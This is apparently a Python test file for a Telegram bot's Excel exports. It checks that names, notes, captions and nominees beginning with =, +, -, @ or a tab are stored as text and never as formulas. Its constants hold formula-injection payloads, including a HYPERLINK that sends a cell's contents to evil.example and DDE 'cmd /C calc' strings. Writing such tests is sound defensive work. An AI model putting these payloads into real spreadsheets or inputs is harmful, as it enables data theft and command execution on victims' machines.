"""Text a user typed is written as text in every Excel export, never as a formula: names,
notes, captions, unit names and nominees that start with =, +, -, @, a tab or a line break."""

from __future__ import annotations

import io
from typing import Any

from openpyxl import load_workbook
from sqlalchemy import select, update

from models import Task, Unit
from tests.auxil.harness import BotHarness, Reply, TelegramUser, buttons
from tests.conftest import join
from tests.e2e.test_nominations import click

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B6,"Bấm vào đây")'
NAME = "=1+2"
NOTE = "+SUM(1;2)"
REPLY = "-2+3"
CAPTION = "@SUM(A1:A3)"
TABBED = "\tcmd|' /C calc'!A0"
UNIT = "=cmd|' /C calc'!A0"
OTHER_NOTE = "=2*3"
NOMINEE = '=HYPERLINK("http://evil.example","Tổ Văn thư")'


async def _press(user: TelegramUser, reply: Reply, fragment: str | None = None) -> Reply:
    """Press the button whose label holds `fragment` (the first button when None)."""
    message = reply.last_message()
    choices = [data for text, data in buttons(message) if fragment is None or fragment in text]
    assert choices, f"no button with {fragment!r} in {buttons(message)}"
    return await user.press(message, choices[0])


async def _uploads(harness: BotHarness, reply: Reply) -> dict[str, bytes]:
    return dict(
        harness.api.uploads[c.result["document"]["file_id"]]
        for c in reply.messages
        if c.method == "sendDocument"
    )


def _cells(workbook_bytes: bytes) -> list[Any]:
    workbook = load_workbook(io.BytesIO(workbook_bytes))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text_only(workbook_bytes: bytes, *hostile: str) -> None:
    cells = _cells(workbook_bytes)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula was written"
    for text in hostile:
        holding = [c for c in cells if isinstance(c.value, str) and text in c.value]
        assert holding, f"{text!r} is missing"
        assert all(c.data_type == "s" for c in holding)
        exact = [c for c in holding if c.value == text]
        # A cell that is only the hostile text is also marked to stay text when edited.
        assert all(c.quotePrefix for c in exact)


async def test_hostile_text_stays_text_in_every_workbook(
    seeded: BotHarness, officer_id: int
) -> None:
    async with seeded.ctx.session() as session:
        await session.execute(update(Unit).where(Unit.code == "X-TA").values(name=UNIT))
        await session.execute(update(Unit).where(Unit.code == "X-TP").values(name=TABBED))
        await session.commit()
        task = await session.scalar(
            select(Task.id).where(Task.quarter == 2).order_by(Task.position).limit(1)
        )
    head = seeded.user(1601, HYPERLINK)
    await join(seeded, head, "TT-VA")
    other = seeded.user(1602, NAME)
    await join(seeded, other, "X-TA")
    done = await head.send(f"/done {task} {NOTE}")
    await head.send(REPLY, reply_to=done.last_message())
    await head.send_document("bien-ban.pdf", caption=CAPTION, reply_to=done.last_message())
    await other.send(f"/done {task} {OTHER_NOTE}")

    nominating = seeded.user(1603, "Mai")
    await join(seeded, nominating, "PGD")
    step = await nominating.send("/nominate")
    step = await _press(nominating, step, "Tập thể")
    step = await nominating.send(NOMINEE)
    step = await _press(nominating, step)  # the first form of award offered
    step = await _press(nominating, step, "thường xuyên")
    step = await nominating.send("-Hoàn thành xuất sắc nhiệm vụ.")
    step = await _press(nominating, step, "Xong")
    await _press(nominating, step, "Gửi đề nghị")

    officer = seeded.user(officer_id, "@Bình")
    progress = await _uploads(seeded, await officer.send("/export progress"))
    [progress_xlsx] = [data for name, data in progress.items() if name.endswith(".xlsx")]
    _assert_text_only(progress_xlsx, UNIT, TABBED, HYPERLINK, NOTE, REPLY, CAPTION, OTHER_NOTE)

    choice = await officer.send("/export nominations")
    nominations = await _uploads(seeded, await click(officer, choice, "Cả năm"))
    [nominations_xlsx] = [data for name, data in nominations.items() if name.endswith(".xlsx")]
    _assert_text_only(nominations_xlsx, NOMINEE, "-Hoàn thành xuất sắc nhiệm vụ.")

    audit = await _uploads(seeded, await officer.send("/export audit"))
    [audit_xlsx] = list(audit.values())
    _assert_text_only(audit_xlsx, HYPERLINK, NAME, NOTE, OTHER_NOTE, "@Bình")
